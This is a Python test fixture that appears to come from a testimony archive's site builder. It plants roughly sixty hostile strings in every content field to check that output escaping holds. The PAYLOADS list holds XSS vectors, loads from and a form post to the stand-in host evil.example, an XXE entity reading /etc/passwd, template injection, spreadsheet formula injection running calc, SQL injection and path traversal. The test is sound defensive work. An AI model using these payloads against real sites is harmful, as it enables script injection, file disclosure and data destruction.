"""Hostile words that may stand in content, and must come out as words: a record for each, in every field it can be in.

Scripts call `hit`, which no page has and the tests put there; requests go to evil.example, which is nowhere.
"""

import html
import json
from pathlib import Path

from aigaq.markup.escape import escape
from helpers.planted_media import photo, recording
from helpers.small_content import Changes

PAYLOADS = (
    "<script>hit(1)</script>",
    "</script><script>hit(2)</script>",
    "</title></head><body onload=hit(3)>",
    "<img src=x onerror=hit(4)>",
    '"><img src=x onerror=hit(5)>',
    "' onmouseover='hit(6)' x='",
    '" onfocus="hit(7)" autofocus="',
    "<svg/onload=hit(8)>",
    "<svg><animate onbegin=hit(9) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=hit(10)&gt;'>",
    "<iframe srcdoc='<script>parent.hit(11)</script>'></iframe>",
    "<iframe src=https://evil.example/12></iframe>",
    "<object data=https://evil.example/13></object>",
    "<embed src=https://evil.example/14>",
    "<link rel=stylesheet href=https://evil.example/15.css>",
    "<style>@import 'https://evil.example/16.css'; *{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/17'>",
    "<base href=https://evil.example/18/>",
    "<form action=https://evil.example/19><button>x</button></form>",
    "<video src=https://evil.example/20.mp4 autoplay></video>",
    "<audio src=https://evil.example/21.mp3 onerror=hit(21)>",
    "<details open ontoggle=hit(22)>x</details>",
    "<a href=javascript:hit(23)>x</a>",
    "[x](javascript:hit(24))",
    "[x](&#106;avascript:hit(25))",
    "[x](data:text/html;base64,PHNjcmlwdD5oaXQoMjYpPC9zY3JpcHQ+)",
    '[x](https://evil.example/27 "&quot; onmouseover=hit(27)")',
    "![x](https://evil.example/28.png)",
    '![x" onerror="hit(29)](https://evil.example/29.png)',
    "![x][30]\n\n[30]: https://evil.example/30.png",
    "<javascript:hit(31)>",
    "`<script>hit(32)</script>`",
    "&lt;script&gt;hit(33)&lt;/script&gt;",
    "&#60;script&#62;hit(34)&#60;/script&#62;",
    "\\u003cscript\\u003ehit(35)\\u003c/script\\u003e",
    "%3Cscript%3Ehit(36)%3C/script%3E",
    "+ADw-script+AD4-hit(37)+ADw-/script+AD4-",
    "<!--><script>hit(38)</script>-->",
    "--><script>hit(39)</script><!--",
    "]]><script>hit(40)</script><![CDATA[",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}{{ ''.__class__.__mro__ }}",
    "${7*7} #{7*7} <%= 7*7 %> {0} {view.frame} %(name)s %s %n",
    "*{hit(44)}* **<b onclick=hit(44)>x</b>**",
    "=HYPERLINK(\"https://evil.example/45\",\"x\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "x\u2028hit(49)\u2029".replace("\u2028", " ").replace("\u2029", " "),
    "𝕩 👩‍👩‍👧 \ufe0f ﷽ ௵ ꧅ Ω̸̢̧̛̛̥̭ " + "w" * 600,
    "Robert'); DROP TABLE records;--",
    "../../../../etc/passwd",
    "<bdo dir=rtl>x</bdo> <marquee onstart=hit(53)>",
    "<noscript><p title=\"</noscript><img src=x onerror=hit(54)>\">",
    "<template><script>hit(55)</script></template>",
    "<x id=main><x name=body><img name=getElementById>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+hit(57)//'>",
    "``` {onclick=\"hit(58)\" .x #main}\n<script>hit(58)</script>\n```",
    "<scr<script>ipt>hit(59)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/60.js></SCRIPT>",
)  # fmt: skip
"""Kept as they are written: a formatter must not touch them."""
LINE = tuple(" ".join(payload.split()) for payload in PAYLOADS)
"""The same in one line."""


def ids() -> list[str]:
    """Return the records of all payloads."""
    return [f"{20001 + number}" for number in range(len(PAYLOADS))]


def content(folder: Path) -> Changes:
    """All payloads, each in a record of its own; recordings are made in `folder`."""
    video = recording(folder / "a.mp4", codecs=("libx264",), title="x").read_bytes()
    changes: Changes = {}
    for id, payload, line in zip(ids(), PAYLOADS, LINE, strict=True):
        changes |= _files(id, payload, line)
    first = f"testimonies/200/t-{ids()[0]}"
    changes[f"{first}/a.mp4"] = video
    changes["site.yaml"] = _yaml(
        {
            "id": "5b0c3a52-9d1e-4f0e-8a55-1c6f5c1f7a10",
            **{
                key: dict(zip(("kk", "ru", "en", "tr", "zh"), LINE[number:], strict=False))
                for number, key in enumerate(("name", "description", "contact", "notice"))
            },
            "pages": ["about"],
        }
    )
    changes["places.yaml"] = _yaml(
        {
            "places": [
                {"id": "cn", "kind": "country", "names": {"en": LINE[4]}},
                {"id": "cn-65", "kind": "region", "parent": "cn", "names": {"en": LINE[3]}},
                {"id": "kz", "kind": "country", "names": {"en": LINE[5]}},
            ]
        }
    )
    for number, payload in enumerate(PAYLOADS[:20]):
        changes[f"news/2024-05-{number + 1:02}-x{number}/en.md"] = _text(LINE[number], LINE[number], escape(payload))
    changes["pages/about/en.md"] = _text(LINE[0], LINE[1], "\n\n".join(map(escape, PAYLOADS)))
    return changes


def _files(id: str, payload: str, line: str) -> Changes:
    folder = f"testimonies/200/t-{id}"
    media = [
        {
            "file": "a.jpg",
            "kind": "photo",
            "face": "hidden",
            "credit": line,
            "alt": {"en": line},
            "caption": {"en": line},
        }
    ]
    files: Changes = {f"{folder}/a.jpg": photo("JPEG")}
    if id == ids()[0]:
        media.append(
            {"file": "a.mp4", "kind": "video", "face": "hidden", "alt": {"en": line}, "captions": {"en": "a.vtt"}}
        )
        cues = "\n\n".join(
            f"{n // 60:02}:{n % 60:02}.000 --> {n // 60:02}:{n % 60:02}.500\n{html.escape(one, quote=False)}"
            for n, one in enumerate(LINE)
        )
        files[f"{folder}/a.vtt"] = f"WEBVTT\n\n{cues}\n"
    record = {
        "id": f"t-{id}",
        "original": "en",
        "kind": "letter",
        "published": "2021-02-03",
        "given": "2018-03",
        "witness": f"p-{id}",
        "places": ["cn-65"],
        "sources": [{"kind": "article", "title": {"en": line}, "url": "https://evil.example/?q=%3Cscript%3E'&x=y"}],
        "media": media,
        "corrections": [{"on": "2022-01-01", "note": {"en": line}}],
        "consent": {"status": "public-statement", "uses": ["web", "search", "download"]},
    }
    person = {
        "id": f"p-{id}",
        "name_mode": "real",
        **{key: {"en": line, "kk": line} for key in ("names", "sort", "ethnicity", "occupation")},
        "aliases": [line],
        "events": [{"type": "camp", "from": "2017", "place": "cn-65", "reason": {"en": line}}],
    }
    return files | {
        f"{folder}/record.yaml": _yaml(record),
        f"people/p-{id}.yaml": _yaml(person),
        f"{folder}/en.md": _text(line, line, escape(payload) + "\n\n> " + escape(line) + "\n\n- " + escape(line)),
        f"{folder}/kk.md": _text(line, line, "Сөз. " + escape(payload), source=True),
    }


def _text(title: str, summary: str, body: str, *, source: bool = False) -> str:
    front = {"title": title, "summary": summary}
    if source:
        front |= {"translator": title, "source": f"sha256:{'0' * 64}"}
    return f"---\n{_yaml(front)}---\n\n{body}\n"


def _yaml(record: dict[str, object]) -> str:
    """JSON in lines is YAML that needs no thought about quotes."""
    return "".join(f"{key}: {json.dumps(value, ensure_ascii=False)}\n" for key, value in record.items())
